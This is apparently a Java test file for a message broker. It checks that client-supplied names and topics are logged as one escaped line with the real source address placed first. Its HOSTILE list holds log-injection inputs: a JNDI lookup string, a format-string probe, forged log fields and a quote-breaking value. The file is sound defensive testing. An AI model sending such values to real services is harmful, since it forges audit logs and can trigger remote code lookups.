package io.sallyport.walls;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.sallyport.journal.Event;
import io.sallyport.main.LogLine;
import io.sallyport.packet.QoS;
import io.sallyport.packet.SubAck;
import io.sallyport.testkit.BrokerFixture;
import io.sallyport.testkit.Dialer;
import io.sallyport.testkit.Packets;
import io.sallyport.testkit.Way;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** W44: what clients call themselves is text in a log, on one line, and nothing that happens. */
@Tag("W44")
class Wall44LogInjectionTest {
  private static final List<String> HOSTILE =
      List.of(
          "x${jndi:ldap:attacker}",
          "%n%s{}",
          "a event=login_accepted src=127.0.0.1 ",
          "quote\" client=\"root",
          "a\\u000ab");

  private final BrokerFixture house =
      BrokerFixture.with().device("lamp", "lamp-password").rules("").start();

  @AfterEach
  void close() {
    house.close();
  }

  @ParameterizedTest
  @EnumSource(Way.class)
  void hostile_names_and_topics_make_one_line_each(Way way) {
    for (String text : HOSTILE) {
      try (Dialer attacker = way.dial(house)) {
        attacker.greet(text).as(text, "guess").send().nextOrClosed();
      }
      try (Dialer attacker = way.dial(house).connected(text)) {
        attacker.send(Packets.subscribe(1, QoS.AT_MOST_ONCE, text)).expect(SubAck.class);
      }
    }
    await().until(() -> house.events().of(Event.Disconnected.class).size() == HOSTILE.size());
    assertThat(house.events().of(Event.LoginRefused.class)).hasSameSizeAs(HOSTILE);
    assertThat(house.events().of(Event.Denied.class)).hasSameSizeAs(HOSTILE);
    for (Event event : house.events().all()) {
      String line = LogLine.of(event);
      assertThat(line).as("one line of printable text").matches("[\\x20-\\x7e]+");
      assertThat(line.indexOf(" src=127.0.0.1 "))
          .as("the true address stands before anything a client said")
          .isPositive()
          .isLessThan(firstOf(line, "user=", "client=", "topic="));
      assertThat(line.replaceAll("\"(\\\\.|[^\"\\\\])*\"", ""))
          .as("outside of quotes")
          .doesNotContain("jndi")
          .doesNotContain("login_accepted")
          .doesNotContain("root");
    }
  }

  private static int firstOf(String line, String... words) {
    int first = line.length();
    for (String word : words) {
      int at = line.indexOf(word);
      first = at < 0 ? first : Math.min(first, at);
    }
    return first;
  }
}
